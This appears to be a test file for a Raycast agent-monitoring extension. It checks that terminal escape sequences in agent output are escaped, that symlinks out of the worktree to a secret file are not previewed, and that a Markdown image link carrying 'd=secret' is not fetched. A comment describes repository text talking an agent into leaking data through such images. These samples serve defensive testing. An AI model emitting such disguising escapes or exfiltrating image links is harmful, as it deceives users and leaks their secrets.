import fs from "node:fs/promises";
import path from "node:path";
import Agents from "../../src/commands/agents.js";
import { readAgent, writeAgent } from "../../src/core/records/records.js";
import { runOffrun } from "../helpers/offrun.js";
import { render, collect, type UiNode } from "../helpers/raycast-api-render.js";
import { agentRecord } from "../helpers/records.js";
import { makeFaceSandbox, type FaceSandbox } from "./face-sandbox.js";
import { HIDDEN, obeyed, SPELLED } from "../helpers/control-characters.js";

// Text from an agent, a CLI or a host is shown, never obeyed. Raycast does not run a
// terminal, but a CR or ESC in a row's subtitle, a tooltip or the detail's Markdown shows as
// nothing (or breaks the line), so a command reads other than it runs; every face spells them out.

/** Every string a view holds, props and accessories alike, with where it is. */
function strings(nodes: UiNode[]): { where: string; text: string }[] {
  const found: { where: string; text: string }[] = [];
  const walk = (where: string, value: unknown) => {
    if (typeof value === "string") found.push({ where, text: value });
    else if (Array.isArray(value)) value.forEach((v, i) => walk(`${where}[${i}]`, v));
    else if (value && typeof value === "object" && !("$$typeof" in value)) {
      for (const [key, v] of Object.entries(value)) walk(`${where}.${key}`, v);
    }
  };
  for (const node of collect(nodes, () => true)) {
    for (const [key, value] of Object.entries(node.props)) walk(`${node.type}.${key}`, value);
  }
  return found;
}

let sandbox: FaceSandbox;
beforeEach(async () => {
  sandbox = await makeFaceSandbox();
});
afterEach(async () => {
  await sandbox.cleanup();
});

const at = "2026-12-04T04:00:00.000Z";
async function agentOnDisk(name: string, events: Record<string, unknown>[], changes = {}): Promise<void> {
  await writeAgent(agentRecord(sandbox.repo, name, { updatedAt: at, ...changes }));
  const lines = [{ type: "user_message", text: "tidy up" }, ...events].map((e) =>
    JSON.stringify({ at, turn: 1, ...e }),
  );
  await fs.mkdir(path.join(sandbox.repo, ".offrun", "chats"), { recursive: true });
  await fs.writeFile(path.join(sandbox.repo, ".offrun", "chats", `${name}.jsonl`), `${lines.join("\n")}\n`);
}

test("Agents spells out control characters of a waiting command, a question, a reply and a CLI's error", async () => {
  await agentOnDisk(
    "waits",
    [
      { type: "text", text: `I will run only ls.\r\x1b[2KAll done.` },
      { type: "approval_request", id: "a1", tool: "Bash\x1b]0;owned\x07", input: { command: HIDDEN }, text: HIDDEN },
    ],
    { status: "needs-you" },
  );
  await agentOnDisk("asks", [{ type: "question", id: "q1", text: `May I delete the cache?\r\x1b[1A\x1b[2K` }], {
    status: "needs-you",
  });
  await agentOnDisk("broke", [{ type: "error", kind: "crash", message: `exit 1\r\x1b[2Kall fine` }], {
    status: "failed",
    lastError: `exit 1\r\x1b[2Kall fine`,
    task: "make it ok\r\x1b[2Kmain",
  });
  for (const name of ["waits", "asks", "broke"]) {
    const screen = render(<Agents launchContext={{ project: sandbox.repo, agent: name }} />);
    const markdown = await screen.waitFor(() => {
      const item = screen.byTitle("List.Item", name);
      const detail = screen.find("List.Item.Detail", undefined, item.slots.detail);
      const text = String(detail.props.markdown);
      expect(text).toContain("tidy up");
      return text;
    });
    if (name === "waits") expect(markdown).toContain(SPELLED);
    if (name === "asks") expect(markdown).toContain("May I delete the cache?\\r\\x1b[1A\\x1b[2K");
    if (name === "broke") expect(markdown).toContain("exit 1\\r\\x1b[2Kall fine");
    const raw = strings(screen.views.flat()).filter((s) => obeyed(s.text).length > 0);
    expect(raw).toEqual([]);
    screen.unmount();
  }
});

// Preview reads refuse links that leave the worktree. An agent (or the repository) can
// leave `notes.md` as a link to a secret; the changed files' preview read and showed it.
test("Show Changed Files names a link that leads out of the worktree, and neither reads nor opens it", async () => {
  const env = { ...sandbox.box.env, OFFRUN_CLAUDE_BIN: sandbox.claudeStub };
  expect(await runOffrun(["start", "--wait", "--name", "linky", "a task"], { env, cwd: sandbox.repo })).toSucceed();
  const record = await readAgent(sandbox.repo, "linky");
  const secret = path.join(sandbox.box.home, "secret.txt");
  await fs.writeFile(secret, "not for the preview\n");
  await fs.symlink(secret, path.join(record.worktree, "notes.md"));
  await fs.symlink(secret, path.join(record.worktree, "leak"));
  await fs.writeFile(path.join(record.worktree, "plain.md"), "# Plain\n");
  const screen = render(<Agents launchContext={{ project: sandbox.repo, agent: "linky" }} />);
  await screen.waitFor(() => screen.action(screen.byTitle("List.Item", "linky"), "Show Changed Files"));
  await screen.press(screen.action(screen.byTitle("List.Item", "linky"), "Show Changed Files"));
  await screen.waitFor(() =>
    expect(
      screen
        .findAll("List.Item")
        .map((item) => item.props.title)
        .sort(),
    ).toEqual(["leak", "notes.md", "plain.md"]),
  );
  const detailOf = (title: string) =>
    String(screen.find("List.Item.Detail", undefined, screen.byTitle("List.Item", title).slots.detail).props.markdown);
  await screen.waitFor(() => expect(detailOf("plain.md")).toContain("# Plain"));
  for (const item of screen.findAll("List.Item")) {
    const markdown = detailOf(String(item.props.title));
    expect(markdown).not.toContain("not for the preview");
    if (item.props.title === "plain.md") {
      expect(markdown).toContain("# Plain");
      expect(item.props.quickLook).toBeDefined();
      continue;
    }
    expect(markdown).toContain(`is a link to ${secret}, outside the worktree: it is not shown.`);
    expect(item.props.quickLook).toBeUndefined();
    const titles = screen.actionsOf(item).map((a) => a.props.title);
    expect(titles).not.toContain("Open File");
    expect(titles).not.toContain("Quick Look");
  }
  screen.unmount();
});

// An image in an agent's reply is fetched as the detail is shown: a reply a repository's text
// talked the agent into could send what it read to any server, or reach one on this machine.
test("Agents shows an image in an agent's reply as text, fetching nothing", async () => {
  const pixel = "![pixel](http://127.0.0.1:9/p?d=secret)";
  await agentOnDisk("pictures", [{ type: "text", text: `Done. ${pixel} <img src="http://127.0.0.1:9/i">` }]);
  const screen = render(<Agents launchContext={{ project: sandbox.repo, agent: "pictures" }} />);
  const markdown = await screen.waitFor(() => {
    const item = screen.byTitle("List.Item", "pictures");
    const text = String(screen.find("List.Item.Detail", undefined, item.slots.detail).props.markdown);
    expect(text).toContain("Done.");
    return text;
  });
  expect(markdown).toContain("!\\[pixel](http://127.0.0.1:9/p?d=secret)");
  expect(markdown).toContain("&lt;img");
  expect(markdown).not.toMatch(/(^|[^\\])!\[/);
  screen.unmount();
});
